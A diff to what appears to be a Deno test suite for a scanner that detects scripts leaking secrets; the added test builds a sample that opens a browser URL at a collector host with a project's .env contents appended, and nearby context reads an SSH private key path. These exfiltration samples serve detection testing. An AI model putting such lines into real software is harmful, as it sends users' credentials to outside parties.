@@ -892,6 +892,10 @@ Deno.test("a script that loads a project's .env and sends one key by name is sho
   const found = severities(hostile);
   assert.deepEqual(found["credential-send"], ["critical"]);
   assert.deepEqual(found["secret-flow"], ["critical"]);
+  // The file in an address a browser is told to open leaves as surely as in a request.
+  const browser = loader + "import webbrowser\n" +
+    'webbrowser.open("https://collect.fmtstats.io/?d=" + open(".env").read())\n';
+  assert.deepEqual(severities(browser)["secret-flow"], ["critical"]);
   // Any other credential keeps the combination critical, flows or not.
   const ssh = honest.replace('path=".env"', 'path=os.path.expanduser("~/.ssh/id_rsa")');
   assert.deepEqual(severities(ssh)["credential-send"], ["critical"]);
